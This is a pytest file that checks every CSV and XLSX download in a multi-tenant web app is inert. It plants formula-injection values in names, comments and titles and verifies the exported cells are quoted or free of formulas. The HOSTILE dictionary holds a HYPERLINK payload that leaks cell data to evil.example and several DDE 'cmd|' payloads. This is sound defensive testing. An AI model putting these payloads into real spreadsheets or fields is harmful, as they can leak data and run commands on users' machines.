"""Every spreadsheet download of every capability is data, never a formula.

A walk over the url map: every route is opened by the owner side of its tenant
kind (the isolation walk's people and samples, tests/samples/); whatever answers
with a CSV or an XLSX content type is a download and is checked, cell by cell,
after hostile values were put where downloads show them: centre, employer and
city and federation names, a declaration's comment, a post's title (« =HYPERLINK(…) »,
« +cmd|… », « -2+3 », « @SUM(…) »). A CSV cell may start with « = », « + »,
« - », « @ », a tab or a carriage return only if it is a plain number; an XLSX
holds no formula at all. A route added later that answers a spreadsheet is
walked too.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from walking import start_walk

from conftest import sign_in

pytestmark = pytest.mark.no_db_rollback

HOSTILE = {
    "centre": '=HYPERLINK("http://evil.example/?leak="&A1,"Fresnoy")',
    # (the federation's name too: every federation export starts with it)
    "employer": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "\t=1+1",
}
MARKERS = ("HYPERLINK", "cmd|", "SUM(1+1)", "=1+1")
STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:[.,][0-9]+)?")
SPREADSHEETS = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


@pytest.fixture(scope="module")
def walk(servers, template_database, app):
    yield from start_walk(servers, "walk_downloads", app)


@pytest.fixture(scope="module")
def hostile(walk):
    """Hostile text wherever downloads show names and comments (as the superuser)."""
    from test_isolation_http import SIDES

    from ensemble.extensions import db
    from ensemble.reporting import operations as reporting
    from ensemble.reporting.models import Declaration
    from ensemble.tenancy import context

    from conftest import Demo

    sql = walk.writes.conn
    sql.execute(
        "UPDATE centres SET name = %s, city = %s WHERE slug = %s",
        (HOSTILE["centre"], HOSTILE["city"], SIDES["centre"]["slug"]),
    )
    sql.execute(
        "UPDATE employers SET name = %s WHERE slug = %s",
        (HOSTILE["employer"], SIDES["employer"]["slug"]),
    )
    sql.execute("UPDATE agreements SET title = %s", (HOSTILE["title"],))
    sql.execute(
        "UPDATE federations SET name = %s WHERE slug = %s",
        (HOSTILE["centre"], SIDES["federation"]["slug"]),
    )
    sql.execute(
        "UPDATE centres SET name = %s || name, city = %s "
        "WHERE federation_id = (SELECT id FROM federations WHERE slug = %s)",
        ("=", HOSTILE["city"], SIDES["federation"]["slug"]),
    )
    with walk.app.app_context():
        session = db.session
        demo = Demo(session)
        url = walk.urls["centre"]["reporting.centre_export_csv"]
        declaration_id = int(url.split("/")[-2])
        with context.using(demo.context_of(SIDES["centre"]["owner"]), session):
            declaration = session.get(Declaration, declaration_id)
            reporting.set_values(
                session,
                declaration,
                {
                    ("pe.enfants", ""): Decimal(12),
                    ("pe.participation_horaire", ""): Decimal("0.39"),
                },
                {"pe.enfants": HOSTILE["comment"]},
            )
        session.commit()
    return HOSTILE


def _downloads(walk):
    """(url, response) of every route that answers a spreadsheet to its owner."""
    from ensemble.tenancy.urls import TENANT_ARGS

    found = []
    for kind in ("centre", "employer", "federation"):
        client = walk.app.test_client()
        assert sign_in(client, walk.owners[kind]).status_code == 302
        for endpoint, url in sorted(walk.urls[kind].items()):
            rule = next(r for r in walk.app.url_map.iter_rules() if r.endpoint == endpoint)
            if "GET" not in rule.methods or not set(rule.arguments) & set(TENANT_ARGS):
                continue
            response = client.get(url)
            assert response.status_code < 500, url
            if response.mimetype in SPREADSHEETS:
                found.append((url, response))
    return found


def _csv_problems(url: str, data: bytes) -> tuple[list[str], int]:
    text = data.decode("utf-8-sig")
    problems, hostile = [], 0
    for line, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";"), 1):
        for cell in row:
            hostile += any(m in cell for m in MARKERS)
            if cell.startswith(STARTS) and not PLAIN_NUMBER.fullmatch(cell):
                problems.append(f"{url} line {line}: live cell {cell!r}")
    return problems, hostile


def _xlsx_problems(url: str, data: bytes) -> tuple[list[str], int]:
    problems, hostile = [], 0
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = archive.read(name).decode()
            if re.search(r"<(?:\w+:)?f[ >]", xml):
                problems.append(f"{url} {name}: a formula element")
    for sheet in load_workbook(io.BytesIO(data)).worksheets:  # formulas kept as formulas
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{url} {cell.coordinate}: formula {cell.value!r}")
                if isinstance(cell.value, str):
                    hostile += any(m in cell.value for m in MARKERS)
                text = cell.value if isinstance(cell.value, str) else ""
                if text.startswith(STARTS) and not cell.quotePrefix:
                    problems.append(f"{url} {cell.coordinate}: {text!r} not quoted")
    return problems, hostile


def test_every_spreadsheet_download_is_inert(walk, hostile):
    downloads = _downloads(walk)
    kinds = {response.mimetype for _url, response in downloads}
    assert kinds == set(SPREADSHEETS), kinds
    for url, response in downloads:
        # One charset parameter, said once (a doubled one confuses strict clients).
        assert response.headers["Content-Type"].count("charset") <= 1, url
        assert "no-store" in response.headers.get("Cache-Control", ""), url
    assert len(downloads) >= 6, [u for u, _ in downloads]
    problems, shown = [], {}
    for url, response in downloads:
        check = _csv_problems if response.mimetype == "text/csv" else _xlsx_problems
        found, hostile_cells = check(url, response.data)
        problems += found
        shown[url] = hostile_cells
    assert not problems, "\n".join(problems)
    # The test bites: the hostile values did reach the downloads.
    carrying = [url for url, n in shown.items() if n]
    assert len(carrying) >= 8, shown


def test_a_negative_number_stays_a_number():
    from ensemble.kernel.spreadsheets import csv_bytes, xlsx_bytes

    rows = [["Aides déduites", Decimal("-597.00"), "-597,00", -3, "=1+1"]]
    line = csv_bytes(rows).decode("utf-8-sig").strip()
    assert line == "Aides déduites;-597,00;-597,00;-3;'=1+1"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, "T"))).active
    assert [c.value for c in sheet[1]] == ["Aides déduites", -597, "-597,00", -3, "=1+1"]
    assert sheet["B1"].data_type == "n" and sheet["E1"].data_type == "s"
